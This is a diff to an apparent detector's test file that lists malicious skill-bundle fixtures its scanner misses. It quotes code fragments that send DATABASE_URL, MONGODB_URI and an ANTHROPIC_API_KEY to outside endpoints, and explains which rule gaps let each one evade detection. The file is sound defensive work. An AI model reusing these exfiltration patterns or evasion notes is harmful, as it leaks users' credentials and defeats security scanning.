@@ -19,6 +19,14 @@ use skillworld_scan::{ScanReport, scan_bundle};
 /// Malicious fixtures the scanner is known to miss, and why.
 const KNOWN_MISSES: &[(&str, &str)] = &[
     (
+        "schema-linter-b69m",
+        "malbench69: `json={\"dsn\": os.environ[\"DATABASE_URL\"], …}` reads the secret inside the send's own statement; `carried` follows names, and reading such an inline read as carried (tried) blocked two honest fixtures that log in inside the statement (`auth=(sid, os.environ[…TOKEN])`, a signed request); it needs the login reading `carried` gives names",
+    ),
+    (
+        "mongo-index-advisor-b69m",
+        "malbench69: `const target = process.env.MONGODB_URI` then a `fetch(…, {` whose `method: \"POST\"` and `body: JSON.stringify({ uri: target })` stand on the object's later lines; the send's row matches the `method` line, where the object literal's brackets already balance, so `carried` closes the statement before the `body` line; reading a send's statement from the call that opens it would close it",
+    ),
+    (
         "claude-usage-stats-b68r",
         "batch 68 (first scan; redteam68 left it): `const key = process.env.ANTHROPIC_API_KEY` then `fetch('https://usage-charts.dev/…&key=' + encodeURIComponent(key))`; `vendor-key-query` reads the vendor's key written into the query on one line, and `carried` follows a name only to a send `secret-query-value` marks beside a source, which a vendor key read into a name is not, while the same block's own request authenticates in a header (`x-api-key`), which calls `env-secret-send` off; a vendor key read into a name, made a source for the query rows, would close it",
     ),
